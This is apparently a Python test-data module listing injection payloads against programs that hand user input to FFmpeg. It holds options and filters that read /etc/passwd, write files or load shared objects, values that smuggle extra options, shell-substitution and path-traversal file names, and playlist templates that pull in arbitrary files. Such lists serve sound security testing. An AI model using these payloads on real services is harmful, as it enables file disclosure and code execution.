"""What has worked, here or elsewhere, against programs that hand their users' words to FFmpeg."""

from __future__ import annotations

OPTIONS = (
    ("-progress", "http://192.0.2.1/"),
    ("-/vf", "/etc/passwd"),
    ("-filter_script", "/etc/passwd"),
    ("-filter_complex_script", "/etc/passwd"),
    ("-vf", "movie=/etc/passwd"),
    ("-af", "amovie=/etc/passwd"),
    ("-filter:v", "null"),
    ("-vpre", "/etc/passwd"),
    ("-fpre", "/etc/passwd"),
    ("-passlogfile", "/tmp/x"),
    ("-pass", "1"),
    ("-vstats_file", "/tmp/x"),
    ("-vstats", "1"),
    ("-attach", "/etc/passwd"),
    ("-dump_attachment", "/tmp/x"),
    ("-dump_attachment:t", ""),
    ("-f", "tee"),
    ("-hls_key_info_file", "/etc/passwd"),
    ("-protocol_whitelist", "file,http,tcp"),
    ("-format_whitelist", "hls"),
    ("-i", "http://192.0.2.1/"),
    ("-sdp_file", "/tmp/x"),
    ("-report", ""),
    ("-c:v:0", "libx264"),
    ("-c", "copy"),
    ("-x264-params", "stats=/tmp/x"),
    ("-x264opts", "stats=/tmp/x"),
    ("-x264-params:v:0", "stats=/tmp/x"),
    ("-x265-params", "csv=/tmp/x"),
    ("-svtav1-params", "stats=/tmp/x"),
    ("-stats", "/tmp/x"),
    ("-map", "1:0"),
    ("-y", "/tmp/x"),
    ("-init_hw_device", "vaapi=/dev/dri/card0"),
    ("-metadata", "title=x"),
    ("-bsf:v", "dump_extra"),
    ("-lavfi", "movie=/etc/passwd"),
    ("/tmp/extra-output.mkv", ""),
    ("FFREPORT", "file=/tmp/x"),
)
"""Options, with a value each, that read, write or send; the last are a bare output and a variable."""

FILTERS = (
    "movie=/etc/passwd",
    "amovie=/etc/passwd",
    "drawtext=textfile=/etc/passwd",
    "subtitles=/etc/passwd",
    "ass=/etc/passwd",
    "lut3d=/etc/passwd",
    "lut1d=file=/etc/passwd",
    "frei0r=/tmp/x.so",
    "ladspa=/tmp/x.so",
    "zmq=bind_address=tcp\\://*\\:5555",
    "metadata=print:file=/tmp/x",
    "ametadata=print:file=/tmp/x",
    "libvmaf=log_path=/tmp/x",
    "libplacebo=custom_shader_path=/etc/passwd",
    "sendcmd=f=/etc/passwd",
    "psnr=stats_file=/tmp/x",
    "vidstabdetect=result=/tmp/x",
    "signature=filename=/tmp/x",
    "frame,movie=/etc/passwd[x];[x]null",
    "black@0.5:eval=frame",
    "1':movie='/etc/passwd",
    "1\\,movie\\=/etc/passwd",
    "%{metadata:title}",
)
"""Filters that read or write files, load code or listen, and ways of getting from a value into a new filter."""

PACKED = (
    "film:stats=/tmp/x",
    "3:csv=/tmp/x",
    "grain:analysis-save=/tmp/x",
    "4.1:dump-yuv=/tmp/x",
    "medium -f tee",
    "medium\n-i\n/etc/passwd",
    "main\0-y",
)
"""Values that try to bring a second option along."""

NAMES = (
    "-i.mp4",
    "--help",
    "-y -f tee.mp4",
    "line\nbreak.mp4",
    "%03d.mp4",
    "%s%n.mp4",
    "concat:a|b.mp4",
    "subfile,,start,0,end,9,,:x.mp4",
    "data:text,plain.mp4",
    "pipe:0",
    "pipe:1.mp4",
    "file:x.mp4",
    "http:x.mp4",
    "a|b.mp4",
    "$(touch pwned).mp4",
    "`touch pwned`.mp4",
    "..%5C..%5Cx.mp4",
    "..\\..\\x.mp4",
    "\\\\server\\share.mp4",
    "C:\\x.mp4",
    "..mp4",
    "x" * 251 + ".mp4",
    "evil\u202e4pm.exe.mp4",
    "<script>alert(1)</script>.mp4".replace("/", "\u2215"),
    "'; DROP TABLE.mp4",
    " .mp4",
    "[v]=movie.mp4",
)
"""File names that mean something to a shell, to FFmpeg, to another system or to a page."""

PLAYLISTS = {
    "hls": "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:5\n#EXTINF:5.0,\n{target}\n#EXT-X-ENDLIST\n",
    "hls_key": '#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXT-X-KEY:METHOD=AES-128,URI="{target}"\n#EXTINF:5,\n{target}\n',
    "hls_master": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{target}\n",
    "hls_behind_a_mark": "\ufeff#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5.0,\n{target}\n#EXT-X-ENDLIST\n",
    "hls_concat": "#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\nconcat:{target}|{target}\n#EXT-X-ENDLIST\n",
    "dash": (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT5S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet '
        'mimeType="video/mp4"><Representation id="0" bandwidth="1"><BaseURL>{target}</BaseURL></Representation>'
        "</AdaptationSet></Period></MPD>"
    ),
    "sdp": (
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns={target}\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n"
        "a=rtpmap:96 H264/90000\n"
    ),
    "ffconcat": "ffconcat version 1.0\nfile '{target}'\n",
    "ffconcat_options": "ffconcat version 1.0\nfile '{target}'\noption protocol_whitelist file,http,tcp\n",
    "imf": (
        '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:0</Id>'
        "<EditRate>25 1</EditRate><SegmentList><Segment><SequenceList/></Segment></SegmentList>"
        "<Asset><Path>{target}</Path></Asset></CompositionPlaylist>"
    ),
    "pls": "[playlist]\nFile1={target}\nNumberOfEntries=1\n",
    "asx": "[Reference]\nRef1={target}\n",
    "vobsub": "# VobSub index file, v7 (do not modify this line!)\n# {target}\nid: en, index: 0\n",
    "rtsp": "RTSPtextRTSP://127.0.0.1/{target}\n",
}
"""Files that name another one, `{target}`, in the formats that FFmpeg would follow."""
